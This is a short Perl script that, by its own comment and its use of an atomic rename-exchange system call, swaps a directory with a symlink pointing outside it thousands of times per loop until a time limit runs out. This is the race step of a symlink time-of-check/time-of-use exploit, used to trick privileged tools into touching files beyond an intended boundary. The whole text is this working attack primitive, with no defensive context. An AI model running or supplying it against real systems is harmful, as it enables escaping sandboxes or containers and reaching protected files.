# Swaps a folder for a link to a folder outside, as fast as it can, until it is ended or the time is over.
my ($folder, $link, $seconds) = @ARGV;
my $end = time + $seconds;
while (time < $end) {
  syscall(316, -100, $folder, -100, $link, 2) for 1 .. 1000;
}
